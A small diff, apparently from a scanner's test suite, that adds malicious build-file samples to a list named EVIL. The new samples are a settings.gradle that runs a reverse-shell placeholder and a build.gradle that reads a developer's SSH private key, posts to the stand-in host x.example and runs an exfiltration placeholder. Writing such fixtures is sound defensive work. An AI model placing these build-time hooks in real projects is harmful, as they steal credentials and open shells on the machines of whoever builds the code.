@@ -45,6 +45,9 @@ EVIL = [
     ("Rakefile", f'task :default do\n  sh "{RSHELL}"\nend\n'),
     ("build.gradle", f"task x {{ doLast {{ exec {{ commandLine 'bash', '-c', '{RSHELL}' }} }} }}\n"),
     ("CMakeLists.txt", f'execute_process(COMMAND bash -c "{RSHELL}")\n'),
+    ("settings.gradle", f"['bash', '-c', '{RSHELL}'].execute()\n"),  # Groovy's List.execute()
+    ("build.gradle", f'"cat /home/dev/.ssh/id_rsa".execute().text.with {{ k -> "curl -d @- https://x.example".execute() }}\n'
+                     f'"{EXFIL}".execute()\n'),
 ]
 
 QUIET = [
